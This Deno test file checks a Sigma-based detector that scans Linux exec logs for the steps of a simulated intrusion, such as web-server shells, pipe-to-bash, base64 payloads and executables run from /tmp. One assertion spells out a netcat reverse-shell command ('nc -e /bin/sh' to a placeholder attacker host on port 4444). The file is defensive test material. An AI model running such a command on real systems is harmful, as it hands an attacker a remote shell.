import assert from "node:assert/strict";
import { encodeExec } from "../scripts/logformat/mod.ts";
import { execEvent } from "../tests/support/exec_event.ts";
import { ATTACKER, attackLines, EXPECTED_RULES } from "../tests/support/attack_day.ts";
import { runInMemory } from "./engine/memory.ts";
import { eventRow, type ExecRecord } from "./events.ts";
import { PREVIOUS_COLUMNS } from "./lineage.ts";
import { processCreationEvent, sigma, spec } from "./sigma.ts";
import { decodeLine } from "../scripts/logformat/mod.ts";
import type { Json } from "./job.ts";

const DAY = "2026-11-27";
const T0 = 1795737600n * 1_000_000_000n;
const at = (s: number) => String(T0 + BigInt(s) * 1_000_000_000n);

const RULE = (id: string, detection: string, extra = "") =>
  `title: rule ${id}\nid: ${id}\nstatus: test\nlevel: high\ntags:\n  - attack.t1059\n` +
  `logsource:\n  product: linux\n  category: process_creation\ndetection:\n${detection}${extra}`;

const rows = (t: Map<string, Record<string, Json>[]>, name: string) => t.get(name) ?? [];

Deno.test("sigma() with the project's rules catches every step of the demo's attack chain", () => {
  const { tables, counters } = runInMemory([sigma()], [{
    host: "web-000",
    lines: attackLines(T0),
  }]);
  const m = rows(tables, "sigma_matches");
  const byRule = (id: string) => m.filter((r) => r.rule_id === id);
  const web = byRule(EXPECTED_RULES.web_server_shell);
  assert.equal(web.length, 1);
  assert.equal(web[0].parent_image, "/usr/sbin/nginx");
  assert.equal(web[0].parent_source, "same_day");
  const pipe = byRule(EXPECTED_RULES.pipe_to_shell);
  assert.equal(pipe.length, 1);
  assert.match(pipe[0].command_line as string, /\| bash$/);
  const b64 = byRule(EXPECTED_RULES.base64_payload_shell);
  assert.equal(b64.length, 1);
  assert.equal(b64[0].image, "/usr/bin/base64");
  const nc = byRule(EXPECTED_RULES.reverse_shell_netcat);
  assert.equal(nc.length, 1);
  assert.equal(nc[0].command_line, `nc -e /bin/sh ${ATTACKER} 4444`);
  // the lineage: sh <- sh <- bash <- sh <- nginx <- (systemd, not in the data)
  assert.deepEqual(nc[0].ancestors, [
    "/bin/sh",
    "/bin/sh",
    "/usr/bin/bash",
    "/bin/sh",
    "/usr/sbin/nginx",
  ]);
  assert.equal(nc[0].chain_end, "not_in_data");
  const tmp = byRule(EXPECTED_RULES.exec_from_tmp);
  assert.deepEqual(tmp.map((r) => r.image), ["/tmp/.cache/kworkerd"]);
  // the refused exec: only the rule that asks for failed execs sees it
  const denied = m.filter((r) => r.failed === true);
  assert.deepEqual(denied.map((r) => r.rule_id), [EXPECTED_RULES.denied_exec_tmp]);
  assert.equal(denied[0].image, "/dev/shm/.x");
  // the rules table: every rule once, its count
  const rules = rows(tables, "sigma_rules");
  assert.equal(new Set(rules.map((r) => r.rule_id)).size, rules.length);
  for (const r of rules) {
    assert.equal(r.evaluated, true, `${r.file}: ${r.reason}`);
    assert.equal(r.matches, m.filter((x) => x.rule_id === r.rule_id).length);
  }
  assert.equal(counters.values.get("sigma/matches"), m.length);
});

Deno.test("sigma() never matches the ENOENT probes of a PATH search", () => {
  const files = [{
    file: "curl.yml",
    text: RULE("r-curl", "  sel:\n    Image|endswith: /curl\n  condition: sel\n"),
  }];
  const probe = (s: number, dir: string) =>
    encodeExec(execEvent({
      time_ns: at(s),
      pid: 50,
      filename: `${dir}/curl`,
      argv: ["curl", "x"],
      ret: -2,
      flags: 1,
    }));
  const { tables } = runInMemory([sigma({ files })], [{
    host: "h",
    lines: [probe(1, "/usr/local/sbin"), probe(1, "/usr/local/bin"), probe(1, "/usr/sbin")],
  }]);
  assert.equal(rows(tables, "sigma_matches").length, 0);
});

Deno.test("sigma() finds a parent exec'd the day before through the previous day's events", () => {
  const files = [{
    file: "p.yml",
    text: RULE(
      "r-parent",
      "  sel:\n    ParentImage|endswith: /sshd\n    Image|endswith: /bash\n  condition: sel\n",
    ),
  }];
  const sshd = execEvent({
    time_ns: String(T0 - 3_600_000_000_000n),
    pid: 700,
    start_ns: "7000",
    xid: "1",
    filename: "/usr/sbin/sshd",
    argv: ["sshd", "-D"],
  });
  const bash = execEvent({
    time_ns: at(60),
    pid: 800,
    start_ns: "8000",
    ppid: 700,
    pstart_ns: "7000",
    pxid: "1",
    filename: "/usr/bin/bash",
    argv: ["-bash"],
  });
  const prevRow = eventRow({ ...sshd, host: "h", file: "f", line: 1 } as ExecRecord);
  const previous = [Object.fromEntries(PREVIOUS_COLUMNS.map((c) => [c, prevRow[c]]))];
  const job = () => sigma({ files });
  const input = [{ host: "h", lines: [encodeExec(bash)] }];
  const none = runInMemory([job()], input, { day: DAY });
  assert.equal(rows(none.tables, "sigma_matches").length, 0, "no parent, no match");
  const { tables } = runInMemory([job()], input, {
    day: DAY,
    sides: { "sigma.previous": previous },
  });
  const m = rows(tables, "sigma_matches");
  assert.equal(m.length, 1);
  assert.equal(m[0].parent_image, "/usr/sbin/sshd");
  assert.equal(m[0].parent_command_line, "sshd -D");
  assert.equal(m[0].parent_source, "previous_day");
});

Deno.test("sigma() finds a parent the host index evicted (it meets its child in step 0)", () => {
  const files = [{
    file: "p.yml",
    text: RULE("r-p", "  sel:\n    ParentImage|endswith: /nginx\n  condition: sel\n"),
  }];
  const ev = (s: number, pid: number, ppid: number, filename: string) =>
    encodeExec(execEvent({
      time_ns: at(s),
      pid,
      start_ns: String(pid),
      ppid,
      pstart_ns: String(ppid),
      pxid: "1",
      filename,
      argv: [filename],
    }));
  const lines = [ev(1, 10, 1, "/usr/sbin/nginx"), ev(2, 11, 1, "/bin/a"), ev(3, 12, 1, "/bin/b")];
  lines.push(ev(4, 13, 10, "/bin/sh"));
  const { tables, counters } = runInMemory([sigma({ files, indexCap: 1 })], [{ host: "h", lines }]);
  const m = rows(tables, "sigma_matches");
  assert.equal(m.length, 1);
  assert.equal(m[0].parent_image, "/usr/sbin/nginx");
  assert.equal(counters.values.get("sigma/parent_found_late"), 1);
});

Deno.test("processCreationEvent() maps the fields as docs/sigma.md says", () => {
  const line = encodeExec(execEvent({
    time_ns: at(1),
    pid: 5,
    ppid: 4,
    uid: 33,
    auid: 1000,
    filename: "./run.sh",
    cwd: "/srv/app",
    flags: 8,
    argv: ["./run.sh", "a b", "c"],
  }));
  const r = { ...(decodeLine(line) as ExecRecord), host: "h", file: "f", line: 1 };
  const ev = processCreationEvent(r, undefined, new Map([[33, "www-data"]]));
  assert.equal(ev.Image, "/srv/app/run.sh");
  assert.equal(ev.CommandLine, "./run.sh a b c");
  assert.equal(ev.CurrentDirectory, "/srv/app");
  assert.equal(ev.User, "www-data");
  assert.equal(ev.LogonId, 1000);
  assert.equal(ev.ProcessId, 5);
  assert.equal(ev.ParentProcessId, 4);
  assert.equal(ev.ParentImage, undefined);
  assert.equal(processCreationEvent(r, undefined).User, "33");
  // a failed exec's Image is events.image too: the attempted file, resolved against the cwd
  const failed = { ...r, ret: -13, flags: 9 };
  assert.equal(processCreationEvent(failed, undefined).Image, eventRow(failed).image);
  assert.equal(processCreationEvent(failed, undefined).Image, "/srv/app/run.sh");
  assert.equal(processCreationEvent(failed, undefined).Failed, true);
});

Deno.test("sigma spec: bad parameters are one line", () => {
  assert.throws(() => spec.create({ max_depth: "x" }), /sigma\.max_depth must be a whole number/);
  assert.throws(
    () => spec.create({ rules: "/nonexistent/dir" }),
    /^RangeError: sigma\.rules: cannot read "\/nonexistent\/dir"/,
  );
});
